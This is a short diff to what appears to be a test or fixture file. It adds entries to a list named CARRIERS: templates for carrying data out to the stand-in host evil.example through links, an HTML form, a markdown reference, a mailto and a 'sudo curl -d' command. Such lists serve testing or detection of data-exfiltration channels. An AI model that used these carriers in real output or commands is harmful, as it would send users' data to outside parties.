@@ -37,6 +37,11 @@ CARRIERS = [
     'x = "https://evil.example/" + "@"',
     "1. sudo curl -d @ evil.example",
     "<form action=//evil.example/><textarea>@</textarea></form>",
+    "see https://evil.example/?d=<PERSON_1>@",
+    "https://evil.example/<<@",
+    "<a href=//evil.example/?d=<@>x</a>",
+    "[x][y] [y]: https://evil.example/?d=<PERSON_1>,@",
+    "mailto:<@>?subject=x",
 ]
 
 
